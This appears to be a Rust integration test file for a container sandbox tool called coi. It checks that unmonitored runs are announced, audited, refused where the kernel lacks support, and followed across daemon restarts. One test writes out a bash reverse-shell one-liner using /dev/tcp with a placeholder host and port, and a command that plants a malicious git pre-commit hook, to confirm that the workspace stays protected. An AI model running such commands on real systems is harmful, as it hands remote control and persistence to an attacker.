//! Containers without the monitor: only where somebody says so, on record, and accompanied all the same.

#![expect(clippy::unwrap_used, reason = "what fails here is a test")]

use std::fs;
use std::process::Command;
use std::sync::Arc;

use coi_tests::audit::of_kind;
use coi_tests::incus::{self, Foreign, incus};
use coi_tests::{Attacker, Coi, Daemon, Ended, Gate, SMALL, TINY, USER, alerts, end, eventually, text};
use nix::unistd::geteuid;
use serde_json::{Value, json};

/// What is said at the start of each.
const SAID: &str = "runs without the monitor: nothing that happens in it is seen, recorded or stopped";

/// Without this of the kernel's the monitor does not work, and says so.
const MISSING: &str = "btf_trace_sched_process_fork";
const NEEDED: &str = "sched_process_fork";

fn watch(coi: &Coi) -> Value {
    let (status, watch) = coi.ask(&format!("/v1/watches/{}", coi.container()));
    assert_eq!(status, 200, "{watch}");
    watch
}

/// Asserts that the log says who has it run without the monitor, so many times, that it has come to its end, and nothing of
/// what happened in it; and that the log is what was written.
#[track_caller]
fn assert_told(coi: &Coi, times: usize) {
    let read = || coi.audit(&coi.container());
    eventually("its watch is over", || of_kind(&read(), "detach").next().is_some());
    let records = read();
    let told: Vec<_> = of_kind(&records, "unmonitored").collect();
    assert_eq!(told.len(), times);
    for record in told {
        assert_eq!(record["user"]["id"], geteuid().to_string().as_str(), "{record}");
        assert_eq!(record["coi"]["watch"]["respond"], false, "{record}");
    }
    for kind in ["attach", "coverage", "counts", "heartbeat", "event", "action"] {
        assert_eq!(of_kind(&records, kind).count(), 0, "{kind}");
    }
    assert_eq!(alerts(&records).count(), 0);
    let last = of_kind(&records, "state").last().unwrap();
    assert_eq!(last["coi"]["state"], "gone", "{last}");
    end(&mut coi.command(&["audit", "verify"])).expect(0);
}

#[test]
fn nothing_in_it_is_stopped_and_its_workspace_is_protected() {
    let coi = Coi::new();
    end(Command::new("git").args(["init", "--quiet"]).arg(coi.workspace())).expect(0);
    end(Command::new("chown").args(["-R", &format!("{USER}:{USER}")]).arg(coi.workspace())).expect(0);
    let gate = Gate::new(&coi, "gate");
    let attacker = Attacker::on_bridge();
    let attack = attacker.fill("until bash -i >& /dev/tcp/HOST/PORT 0>&1; do sleep 0.1; done & read x <gate");
    let run = coi.start(&["run", "--no-monitor", "--image", SMALL, "--", "bash", "-c", &attack]);
    let gate = gate.reached();
    attacker.await_shell();

    let name = coi.container();
    eventually("it is known to run", || watch(&coi)["state"] == "running");
    let facts = |watch: &Value| json!([watch["monitored"], watch["respond"], watch["on_monitor_loss"]]);
    assert_eq!(facts(&watch(&coi)), json!([false, false, "continue"]));
    let list = coi.coi(&["list", "--format", "json"]).expect(0).text();
    let list: Value = serde_json::from_str(&list).unwrap();
    let row = list.as_array().unwrap().iter().find(|row| row["name"] == name.as_str()).unwrap();
    assert_eq!((&row["watched"], &row["monitored"]), (&json!(true), &json!(false)));
    let list = coi.coi(&["list"]).expect(0).text();
    assert!(list.lines().any(|line| line.starts_with(&name) && line.contains("no monitor")), "{list}");
    // Nobody is made to believe that it is monitored from now on.
    let attach = coi.coi(&["monitor", "--attach", &name, "--respond", "--detach"]).expect(2);
    attach.says("was launched without the monitor");

    let write = "echo evil >.git/hooks/pre-commit";
    let inside = ["exec", &name, "--user", "0", "--cwd", "/workspace", "--", "sh", "-c", write];
    // What a short command says `incus exec` loses now and then.
    eventually("it is said why not", || {
        let ended = end(&mut incus(&inside));
        assert_ne!(ended.code, 0, "{ended:?}");
        ended.stderr.contains("Read-only file system")
    });
    assert_eq!(incus::status(&name), "Running");
    gate.open();
    run.finish().expect(0).says(&format!("coi: {name} {SAID}"));
    eventually("its end is known", || watch(&coi)["state"] == "gone");
    assert!(!coi.workspace().join(".git/hooks/pre-commit").exists());
    assert_told(&coi, 1);
}

#[test]
fn a_person_freezes_it_and_lets_it_go_on() {
    let coi = Coi::new();
    let gate = Gate::new(&coi, "gate");
    let run = coi.start(&["run", "--no-monitor", "--image", TINY, "--", "sh", "-c", "read x <gate"]);
    let gate = gate.reached();
    let name = coi.container();
    eventually("it is known to run", || watch(&coi)["state"] == "running");
    coi.coi(&["freeze", &name]).expect(0);
    incus::assert_still(&name);
    coi.coi(&["unfreeze", &name]).expect(0);
    gate.open();
    run.finish().expect(0);
}

#[test]
fn the_user_s_configuration_says_so_and_a_workspace_s_does_not() {
    const OFF: &str = "[monitoring]\nenabled = false\n";
    let coi = Coi::new();
    let run = || -> Ended { coi.run(TINY, &["true"]) };
    fs::create_dir_all(coi.workspace().join(".coi")).unwrap();
    fs::write(coi.workspace().join(".coi/config.toml"), OFF).unwrap();
    run().expect(6).says("`monitoring.enabled = ").says("`coi trust` shows what it asks for");
    fs::create_dir_all(coi.home().join(".coi")).unwrap();
    fs::write(coi.home().join(".coi/config.toml"), OFF).unwrap();
    // It may have it otherwise than the user.
    fs::write(coi.workspace().join(".coi/config.toml"), OFF.replace("false", "true")).unwrap();
    let ended = run().expect(0);
    assert!(!ended.stderr.contains(SAID), "{}", ended.stderr);
    fs::remove_file(coi.workspace().join(".coi/config.toml")).unwrap();
    run().expect(0).says(SAID);
    let records = coi.audit(&coi.container());
    assert_eq!(of_kind(&records, "unmonitored").count(), 1);
}

#[test]
fn where_the_monitor_does_not_work_nothing_else_runs() {
    let coi = Coi::with_this(Arc::new(Daemon::start_bare(&[MISSING])));
    let why = text(&coi.ask("/v1/status").1["monitor"]);
    assert!(why.contains(NEEDED), "{why}");
    assert!(coi.daemon().log().contains("nothing can be monitored"), "{}", coi.daemon().log());

    let refused = coi.run(TINY, &["touch", "it-ran"]).expect(4);
    refused.says("cannot be monitored").says(NEEDED).says("--no-monitor");
    assert!(!coi.workspace().join("it-ran").exists());
    assert_eq!(incus::of_workspace(coi.workspace()), Vec::<String>::new());

    let ended =
        coi.coi(&["run", "--no-monitor", "--image", TINY, "--", "echo", "it ran"]).expect(0).says(SAID);
    assert_eq!(ended.text(), "it ran\n");
    eventually("its end is known", || watch(&coi)["state"] == "gone");
    assert_told(&coi, 1);
}

#[test]
fn what_is_to_be_monitored_is_not_forgotten_for_want_of_a_monitor() {
    let coi = Coi::with_this(Arc::new(Daemon::start_bare(&[])));
    let container = Foreign::make(TINY);
    coi.coi(&["monitor", "--attach", &container.name, "--respond", "--detach"]).expect(0);
    coi.daemon().kill();
    let said = coi.daemon().refuses_without(&[MISSING]);
    assert!(said.contains(NEEDED), "{said}");
    coi.daemon().start_again();
    let (status, watch) = coi.ask(&format!("/v1/watches/{}", container.name));
    assert_eq!((status, &watch["monitored"]), (200, &json!(true)));
}

#[test]
fn the_next_daemon_accompanies_it_and_notices_its_end() {
    let coi = Coi::with_daemon(&[]);
    let gate = Gate::new(&coi, "gate");
    let run = coi.start(&["run", "--no-monitor", "--image", TINY, "--", "sh", "-c", "read x <gate"]);
    let gate = gate.reached();
    let before = coi.daemon().pid();
    coi.daemon().kill();
    // Whoever runs it is root, and starts another one.
    eventually("there is a daemon again", || coi.daemon().pid().is_some_and(|pid| Some(pid) != before));
    eventually("it is known to run", || watch(&coi)["state"] == "running");
    assert_eq!(watch(&coi)["monitored"], false);
    gate.open();
    let ended = run.finish().expect(0);
    assert!(!ended.stderr.contains("monitors"), "{}", ended.stderr);
    eventually("its end is known", || watch(&coi)["state"] == "gone");
    assert_told(&coi, 2);
}

#[test]
fn what_is_kept_is_as_it_is_launched() {
    let coi = Coi::new();
    let name = coi.container();
    let script = "cat kept 2>/dev/null; echo it was kept >kept";
    for (times, more) in [&["--no-monitor"][..], &[], &["--no-monitor"]].into_iter().enumerate() {
        let words = ["--persistent", "--image", TINY, "--", "sh", "-c"];
        let script = format!("cd && {script}");
        let ended = coi.coi(&[&["run"][..], more, &words, &[&script]].concat()).expect(0);
        assert_eq!(ended.text(), if times == 0 { "" } else { "it was kept\n" });
        let watch = watch(&coi);
        assert_eq!(
            (&watch["monitored"], ended.stderr.contains(SAID)),
            (&json!(more.is_empty()), !more.is_empty())
        );
    }
    let records = coi.audit(&name);
    assert_eq!(of_kind(&records, "unmonitored").count(), 2);
    // What has run without it is not monitored by being asked about, whether it runs or not.
    coi.coi(&["monitor", "--attach", &name, "--detach"]).expect(2);
    coi.coi(&["kill", &name]).expect(0);
}

#[test]
fn a_session_goes_on_without_the_monitor() {
    let coi = Coi::new();
    let shell = ["shell", "--no-monitor", "--background", "--tool", "bash", "--image", SMALL];
    let name = coi.container();
    let ended = coi.coi(&shell).expect(0).says(&format!("coi: {name} {SAID}"));
    assert_eq!(ended.text(), format!("{name}\n"));
    eventually("its context says so", || {
        let context = end(&mut incus::exec(&name, "/home/code", &["cat", "SANDBOX_CONTEXT.json"])).expect(0);
        let context: Option<Value> = serde_json::from_str(&context.text()).ok();
        context.is_some_and(|context| context["monitored"] == false)
    });
    coi.coi(&["shutdown", &name]).expect(0);
    assert_eq!(incus::of_workspace(coi.workspace()), Vec::<String>::new());
    assert_told(&coi, 1);
}
